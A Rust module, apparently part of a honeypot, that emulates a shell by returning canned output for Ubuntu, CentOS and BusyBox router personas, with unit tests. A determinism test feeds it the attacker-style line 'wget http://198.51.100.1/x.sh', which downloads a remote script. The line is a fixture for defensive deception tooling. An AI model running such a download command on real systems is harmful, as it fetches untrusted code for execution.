use super::persona::Persona;

/// One shell input line split into a verb and its arguments.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct CommandLine<'a> {
    pub raw: &'a str,
    pub verb: &'a str,
    pub args: Vec<&'a str>,
}

impl<'a> CommandLine<'a> {
    /// Returns `None` for a line holding only whitespace.
    pub fn parse(raw: &'a str) -> Option<Self> {
        let mut tokens = raw.trim().split_whitespace();
        let verb = tokens.next()?;
        Some(Self {
            raw,
            verb,
            args: tokens.collect(),
        })
    }

    pub fn argv(&self) -> Vec<&'a str> {
        let mut argv = Vec::with_capacity(self.args.len() + 1);
        argv.push(self.verb);
        argv.extend(self.args.iter().copied());
        argv
    }

    fn is(&self, verb: &str, args: &[&str]) -> bool {
        self.verb == verb && self.args == args
    }
}

/// Produces the fake output for `command` under `persona`.
///
/// Matching is exact on the whitespace-split tokens. Anything not recognised
/// is echoed back as typed, followed by a newline.
pub fn interpret(command: &CommandLine<'_>, persona: &Persona) -> String {
    if command.is("uname", &["-a"]) || command.is("uname", &["--all"]) {
        return persona.identity.to_string();
    }

    match persona.lookup(&command.argv()) {
        Some(output) => output.to_string(),
        None => format!("{}\n", command.raw),
    }
}

/// Whole-line form of [`interpret`]; a blank line yields no output.
pub fn run_line(line: &str, persona: &Persona) -> String {
    match CommandLine::parse(line) {
        Some(command) => interpret(&command, persona),
        None => String::new(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::shell_emulation::persona::{BUSYBOX_ROUTER, CENTOS, UBUNTU};

    #[test]
    fn parse_collapses_separators() {
        let cmd = CommandLine::parse("  cat   /proc/version \t").unwrap();
        assert_eq!(cmd.verb, "cat");
        assert_eq!(cmd.args, vec!["/proc/version"]);
        assert!(CommandLine::parse(" \t ").is_none());
    }

    #[test]
    fn uname_returns_identity() {
        assert_eq!(run_line("uname -a", &UBUNTU), UBUNTU.identity);
        assert_eq!(run_line("uname   --all", &CENTOS), CENTOS.identity);
    }

    #[test]
    fn table_lookup_is_exact() {
        assert_eq!(
            run_line("id -a", &UBUNTU),
            "uid=0(root) gid=0(root) groups=0(root)\n"
        );
        assert!(run_line("cat /proc/cpuinfo", &BUSYBOX_ROUTER).starts_with("system type"));
        // Vendor entries need the exact path token.
        assert_eq!(run_line("cat /proc/version2", &UBUNTU), "cat /proc/version2\n");
        assert_eq!(run_line("uname -ax", &UBUNTU), "uname -ax\n");
    }

    #[test]
    fn unknown_command_is_echoed_as_typed() {
        assert_eq!(run_line("foobar --baz", &UBUNTU), "foobar --baz\n");
        assert_eq!(run_line("foobar  --baz", &CENTOS), "foobar  --baz\n");
    }

    #[test]
    fn output_is_deterministic() {
        for line in ["uname -a", "whoami", "wget http://198.51.100.1/x.sh", "exit"] {
            assert_eq!(run_line(line, &CENTOS), run_line(line, &CENTOS));
        }
    }

    #[test]
    fn blank_line_has_no_output() {
        assert_eq!(run_line("   ", &UBUNTU), "");
    }
}
